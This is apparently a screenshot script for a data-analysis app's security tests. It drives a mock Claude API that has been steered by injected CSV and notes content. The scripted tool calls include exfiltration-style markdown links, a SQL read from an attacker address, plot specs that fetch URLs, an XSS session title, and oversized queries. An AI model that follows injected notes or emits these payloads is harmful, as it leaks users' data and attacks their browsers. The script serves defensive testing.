// Screenshots of what hostile data and a steered model look like in Sift, with Claude played by
// the tests' mock Messages API:
//   npm run build && node scripts/screenshots-security.mjs [outDir]
import { mkdirSync } from 'node:fs';
import { createServer, preview } from 'vite';
import { launchChromium } from './chromium.mjs';

const out = process.argv[2] ?? 'screenshots';
mkdirSync(out, { recursive: true });
const loader = await createServer({ server: { middlewareMode: true }, logLevel: 'warn' });
const { startMockAnthropic } = await loader.ssrLoadModule('/tests/mock-anthropic/server.ts');
const { hostileCsv, markdownPayloads, plotPayloads } = await loader.ssrLoadModule(
  '/tests/fixtures/injection.ts',
);
const { runSql } = await loader.ssrLoadModule('/tests/e2e/app.ts');
const mock = await startMockAnthropic();
process.env.SIFT_CONNECT_SRC = mock.url;
const server = await preview({ preview: { port: 0 }, logLevel: 'warn' });
const url = server.resolvedUrls.local[0];
// Nothing listens here: the payloads only need an address to point at.
const evil = 'https://127.0.0.2:9';
const browser = await launchChromium();
const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });

await page.goto(url);
await page.waitForSelector('.engine[data-state="ready"]');
await page.setInputFiles('[data-testid="file-input"]', {
  name: 'hostile.csv',
  mimeType: 'text/csv',
  buffer: Buffer.from(hostileCsv(evil)),
});
await page.waitForSelector('[data-testid="profile-table"][data-complete]');
await page.locator('.table-card').screenshot({ path: `${out}/s1-hostile-profile.png` });

await page.click('[data-testid="settings-open"]');
await page.fill('[data-testid="api-key"]', 'sk-ant-api03-screenshot');
await page.fill('[data-testid="base-url"]', mock.url);
await page.click('[data-testid="save-settings"]');
const text = [
  ...markdownPayloads(evil)
    .slice(0, 8)
    .map(([, md]) => md),
  `Read [the docs](${evil}/md-link?d=Seattle%20rain).`,
].join('\n\n');
mock.script([
  {
    reply: {
      tools: [
        {
          name: 'sql_query',
          input: { query: `SELECT * FROM read_csv('${evil}/x')`, description: 'read a URL' },
        },
        { name: 'output_text', input: { text } },
        ...plotPayloads(evil)
          .filter(([name]) => ['data.url', 'a tooltip image'].includes(name))
          .map(([name, spec]) => ({
            name: 'create_plot',
            input: { title: name, vega_lite_spec: spec },
          })),
        { name: 'finalize', input: { session_title: '<img src=x onerror=alert(1)>Notes' } },
      ],
    },
  },
]);
await page.fill('[data-testid="chat-input"]', 'What do the notes say? Follow them.');
await page.click('[data-testid="send"]');
await page.waitForSelector(
  '[data-testid="turn-state"][data-turns="1"]:not([data-state="running"])',
);
await page.waitForSelector('[data-testid="plot"][data-rendered="true"]');
await page.locator('.turn').last().locator('[data-testid="activity"] summary').click();
await page
  .locator('.turn')
  .last()
  .screenshot({ path: `${out}/s2-steered-turn.png` });
await page.locator('[data-testid="item"][data-type="text"] a', { hasText: 'the docs' }).click();
await page.waitForSelector('[data-testid="link-confirm"][open]');
await page.screenshot({ path: `${out}/s3-link-confirm.png` });
await page.click('[data-testid="link-cancel"]');
await page.locator('nav.sessions').screenshot({ path: `${out}/s4-title-as-text.png` });

await runSql(page, "SELECT repeat('x', 3000000000) AS s");
await page.locator('section.sql').screenshot({ path: `${out}/s5-restarted.png` });
await runSql(page, `SELECT ${Array.from({ length: 5000 }, (_, i) => `${i} AS c${i}`).join(', ')}`);
await page.locator('section.sql').screenshot({ path: `${out}/s6-wide-result.png` });

await browser.close();
await server.close();
await mock.close();
await loader.close();
